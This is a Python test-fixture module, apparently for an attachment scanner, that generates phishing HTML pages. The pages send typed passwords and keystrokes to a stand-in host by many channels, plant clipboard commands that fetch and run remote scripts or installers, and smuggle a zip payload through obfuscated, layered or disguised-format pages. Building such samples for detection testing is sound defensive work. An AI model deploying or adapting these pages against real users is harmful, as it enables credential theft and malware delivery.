"""Attached pages that act in further ways: what is typed leaves by other doors, commands of other programs, other
moments at which a file is saved, a page under other first bytes, all of a page on a server."""

# ruff: noqa: E501  scripts are one line each, as they are mailed

import base64

from tests.pages.smuggling_pages import PAYLOADS, b64, script

TEXT = "<p>Dear customer, please find the statement of this month below. It was made for you by the accounting department and holds all figures of the last quarter.</p>"
TARGET = "https://collect.desk-files.example/p"
SAVED = f"var b=new Blob([Uint8Array.from(atob('{b64(PAYLOADS['invoice.zip'])}'),c=>c.charCodeAt(0))]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='i.zip';a.click()"
FORM = "<form id=f><input id=u><input id=p type=password><button>Sign in</button></form>"


def send(code: str) -> str:
    return f"{TEXT}{FORM}<script>f.onsubmit=e=>{{e.preventDefault();var v=u.value+':'+p.value;{code}}}</script>"


def copy(command: str) -> str:
    escaped = command.replace("\\", "\\\\").replace("'", "\\'")
    return f"{TEXT}<script>onclick=()=>navigator.clipboard.writeText('{escaped}')</script>"


def when(code: str, body: str = "") -> str:
    return f"{TEXT}{body}<script>{code.replace('SAVE', SAVED)}</script>"


SENDING = {
    "event source": send(f"new EventSource('{TARGET}?'+v)"),
    "prefetched": send(
        f"var l=document.createElement('link');l.rel='prefetch';l.href='{TARGET}?'+v;document.head.append(l)"
    ),
    "font": send(f"new FontFace('x','url({TARGET}?'+v+')').load()"),
    "module": send(f"import('{TARGET}?'+v)"),
    "background": send(f"document.body.style.background='url({TARGET}?'+v+')'"),
    "sound": send(f"new Audio('{TARGET}?'+v).play()"),
    "script": send(f"var s=document.createElement('script');s.src='{TARGET}?'+v;document.head.append(s)"),
    "worker": send(
        f"var w=new Worker(URL.createObjectURL(new Blob(['onmessage=e=>fetch(\"{TARGET}?\"+e.data)'])));w.postMessage(v)"
    ),
    "numbers": send(f"fetch('{TARGET}?'+[...v].map(c=>c.charCodeAt(0)).join('-'))"),
    "style sheet": send(
        f"var s=document.createElement('style');s.textContent='@import url({TARGET}?'+v+')';document.head.append(s)"
    ),
    "name of a host": send(
        "var l=document.createElement('link');l.rel='dns-prefetch';l.href='//'+v.replace(/[^a-z0-9]/gi,'')+'.desk-files.example';document.head.append(l)"
    ),
    "fragment": send(f"location.href='{TARGET}#'+v"),
    "relay of calls": send(
        "new RTCPeerConnection({iceServers:[{urls:'turn:collect.desk-files.example',username:u.value,credential:p.value}]})"
    ),
    "key by key": f"{TEXT}Password: <div id=d contenteditable></div><script>var s='';d.onkeydown=e=>{{s+=e.key;new Image().src='{TARGET}?'+s}}</script>",
    "code of a key": f"{TEXT}<script>onkeypress=e=>fetch('{TARGET}?'+String.fromCharCode(e.which))</script>",
    "kept password": f"{TEXT}<script>navigator.credentials.get({{password:true}}).then(c=>fetch('{TARGET}',{{method:'POST',body:c.password}}))</script>",
    "button elsewhere": f'{TEXT}<form><input type=password name=p><button formaction="{TARGET}">Go</button></form>',
    "letter": f'{TEXT}<form action="mailto:box@desk-files.example" method=post enctype=text/plain><input type=password name=p><button>Go</button></form>',
}
COMMANDS = {
    "finger": copy('cmd /v:on /c "set x=finger&!x! a@desk-files.example|cmd"'),
    "secure shell": copy('ssh -o ProxyCommand="calc" x'),
    "for files": copy('forfiles /p c:\\windows /c "calc"'),
    "installer": copy("msiexec /i https://desk-files.example/a.msi /qn"),
    "share": copy("explorer.exe \\\\desk-files.example@SSL\\DavWWWRoot\\a.lnk"),
    "terminal": copy('/bin/bash -c "$(curl -fsSL https://desk-files.example/i.sh)"'),
    "typed by the reader": f"{TEXT}<h1>Verify you are human</h1><ol><li>Press <b>Win + R</b></li><li>Type <code>powershell -w hidden iwr https://desk-files.example/a|iex</code></li><li>Press Enter</li></ol>",
    "script of windows": f'{TEXT}<script language=VBScript>Set s=CreateObject("WScript.Shell"):s.Run "calc"</script>',
    "object of windows": f"{TEXT}<script type='text/jscript'>new ActiveXObject('WScr'+'ipt.Shell').Run('calc')</script>",
    "link of word": f"{TEXT}<script>location='ms-word:ofe|u|https://desk-files.example/a.docx'</script>",
    "link of a search": f"{TEXT}<script>location='search-ms:query=a&crumb=location:\\\\\\\\desk-files.example\\\\s'</script>",
}
MOMENTS = {
    "once it is seen": when("new IntersectionObserver(()=>{SAVE}).observe(q)", "<p id=q></p>"),
    "once it has a size": when("new ResizeObserver(()=>{SAVE}).observe(q)", "<p id=q></p>"),
    "once it is painted": when("new PerformanceObserver(()=>{SAVE}).observe({entryTypes:['paint']})"),
    "after a movement": when("q.animate([{opacity:0}],100).finished.then(()=>{SAVE})", "<p id=q></p>"),
    "when a movement ends": when("q.animate([{opacity:0}],100).onfinish=()=>{SAVE}", "<p id=q></p>"),
    "in a transition": when("document.startViewTransition(()=>{SAVE})"),
    "as large as the screen": when(
        "q.onclick=()=>document.documentElement.requestFullscreen().then(()=>{SAVE})", "<button id=q>Open</button>"
    ),
    "while the screen is on": when("navigator.wakeLock.request('screen').then(()=>{SAVE})"),
    "with a lock": when("navigator.locks.request('a',()=>{SAVE})"),
    "without a camera": when("navigator.mediaDevices.getUserMedia({audio:true}).catch(()=>{SAVE})"),
    "when spoken": when("var s=new SpeechSynthesisUtterance('a');s.onend=()=>{SAVE};speechSynthesis.speak(s)"),
    "when marked": when("document.addEventListener('selectionchange',()=>{SAVE})"),
    "when the device moves": when("addEventListener('devicemotion',()=>{SAVE})"),
    "when it leads on": when("navigation.addEventListener('navigate',()=>{SAVE})", "<a href=#x>Open</a>"),
    "when refused": when("document.addEventListener('securitypolicyviolation',()=>{SAVE})", "<img src=x>"),
    "after a wait": when("Atomics.waitAsync(new Int32Array(new SharedArrayBuffer(4)),0,0,9).value.then(()=>{SAVE})"),
    "when freed": when("new FinalizationRegistry(()=>{SAVE}).register({},1)"),
    "when it is set": when(
        f"Object.defineProperty(window,'zz',{{set:Function('v',atob('{b64(SAVED.encode())}'))}});zz=1"
    ),
    "while it is parsed": when("JSON.parse('[1]',(k,v)=>{if(k==='0'){SAVE}})"),
    "while it is replaced": when("'x'.replace(/x/,()=>{SAVE})"),
    "while it is joined": when("''+{toString(){SAVE;return''}}"),
    "layers": "",
}
_layer = f"<script>{SAVED}</script>"
for _ in range(8):
    _layer = f"<script>document.write(atob('{b64(_layer.encode())}'))</script>"
MOMENTS["layers"] = TEXT + _layer
PLACES = {
    "widths": TEXT
    + "".join(f"<i style='width:{byte}px'></i>" for byte in PAYLOADS["invoice.zip"])
    + "<script>var b=[...document.querySelectorAll('i')].map(e=>parseInt(e.style.width));var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([new Uint8Array(b)]));a.download='i.zip';a.click()</script>",
    "sizes that are measured": TEXT
    + "".join(f"<i style='display:block;width:{byte}px'></i>" for byte in PAYLOADS["invoice.zip"][:300])
    + "<script>var b=[...document.querySelectorAll('i')].map(e=>e.offsetWidth);var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([new Uint8Array(b)]));a.download='i.zip';a.click()</script>",
    "sound": f"{TEXT}<script>new AudioContext().decodeAudioData(Uint8Array.from(atob('{b64(PAYLOADS['invoice.zip'])}'),c=>c.charCodeAt(0)).buffer).then(b=>{{var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([b.getChannelData(0)]));a.download='i.zip';a.click()}})</script>",
    "link": f'{TEXT}<a download="invoice.zip" href="data:application/zip;base64,{b64(PAYLOADS["invoice.zip"])}">Open</a>',
    "dragged": f"{TEXT}<p draggable=true id=g>Drag me</p><script>g.ondragstart=e=>e.dataTransfer.setData('DownloadURL','application/zip:i.zip:data:application/zip;base64,{b64(PAYLOADS['invoice.zip'])}')</script>",
    "script of a server beside text": f'{TEXT * 3}<script src="https://desk-files.example/x.js"></script>',
    "module of a server": f'<script type=module>import x from "https://desk-files.example/x.js";x()</script>{TEXT}',
}
HELD: dict[str, str] = {
    f"{group}: {name}": html
    for group, pages in (("sends", SENDING), ("command", COMMANDS), ("when", MOMENTS), ("from", PLACES))
    for name, html in pages.items()
}
_PAGE = script(SAVED).encode()
# Under the name of a page: first bytes, characters and wrappers of other things.
DISGUISED: dict[str, tuple[str, bytes]] = {
    "picture": ("doc.html", b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(10) + _PAGE),
    "document": ("doc.html", b"%PDF-1.4\n" + _PAGE),
    "blanks": ("doc.html", b" " * 2_000_000 + _PAGE),
    "two bytes": ("doc.html", script(SAVED).encode("utf-16-le")),
    "packed": ("doc.svgz", _PAGE),
    "saved page": (
        "a.mht",
        b"From: <Saved>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=q\r\n\r\n--q\r\nContent-Type: text/html\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(_PAGE) + b"\r\n--q--\r\n",
    ),
    "saved page that asks": (
        "a.mhtml",
        b"From: <Saved by Blink>\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=q\n\n--q\nContent-Type: text/html\n\n"
        + f'<form action="{TARGET}"><input type=password name=p></form>\n--q--\n'.encode(),
    ),
}
